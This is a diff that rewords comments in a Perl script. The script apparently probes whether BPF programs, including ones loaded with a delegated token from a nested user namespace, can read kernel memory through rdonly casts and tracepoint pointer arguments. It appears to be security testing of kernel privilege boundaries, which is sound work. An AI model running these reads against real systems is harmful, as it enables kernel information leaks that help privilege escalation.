@@ -1,8 +1,9 @@
-# Reads four bytes of the kernel's memory, in each way that a BPF program has:
+# Reads four bytes of kernel memory in every way available to a BPF program:
 # read.pl ADDRESS CAST STRUCT TRACEPOINT OFFSET none|bpffs|broker [SOCKET UID REQUEST]
 #
-# CAST is the type id of bpf_rdonly_cast, STRUCT that of a struct that begins with a number, TRACEPOINT
-# that of btf_trace_sched_switch, OFFSET where a task has its pid. A way says `read VALUE`, or the errno.
+# CAST is the type id of bpf_rdonly_cast, STRUCT that of a struct that begins with an integer, TRACEPOINT
+# that of btf_trace_sched_switch, OFFSET that of the pid in task_struct. Each way prints `read VALUE` or
+# the errno.
 use strict;
 use warnings;
 use Attack;
@@ -24,7 +25,7 @@ if ($from eq 'bpffs') {
 say_value('plain', load(insn(0xb7, 0, 0, 0, 7) . insn(0x95, 0, 0, 0, 0)));
 say_value('map', errno_name(map_create($token)));
 tries('');
-# From a namespace within: with all capabilities there, and the token of the one above.
+# In a nested user namespace: with all capabilities there and the token of the outer namespace.
 my $nested = sys('unshare', NEWUSER);
 say_value('nested', errno_name($nested));
 tries('nested ') if $nested >= 0;
@@ -42,21 +43,21 @@ sub tries {
       $wide . insn(0xb7, 2, 0, 0, $_->[1]) . insn(0x85, 0, 2, 0, $cast)
       . insn(0x61, 0, 0, 0, 0) . insn(0x95, 0, 0, 0, 0)));
   }
-  # What the kernel itself hands to a program at a tracepoint; loading it is reading it.
+  # A BTF pointer argument of a tracepoint program; a successful load counts as a read.
   my ($program) = program_load($token, 26, 23,
     insn(0x79, 1, 1, 8, 0) . insn(0x61, 0, 1, $offset, 0) . insn(0xb7, 0, 0, 0, 0)
     . insn(0x95, 0, 0, 0, 0), 0, $tracepoint);
   say_value("${when}pointer", $program >= 0 ? 'read' : errno_name($program));
 }
 
-# Two instructions that set a register to 64 bits.
+# Encodes the two instructions that load a 64-bit immediate.
 sub wide {
   my ($register, $value) = @_;
   my ($low, $high) = unpack 'll', pack 'Q', $value;
   return insn(0x18, $register, 0, 0, $low) . insn(0, 0, 0, 0, $high);
 }
 
-# As a socket filter: what it answers.
+# Runs the code as a socket filter and returns its return value.
 sub load {
   my ($program) = program_load($token, 1, 0, $_[0]);
   return errno_name($program) if $program < 0;
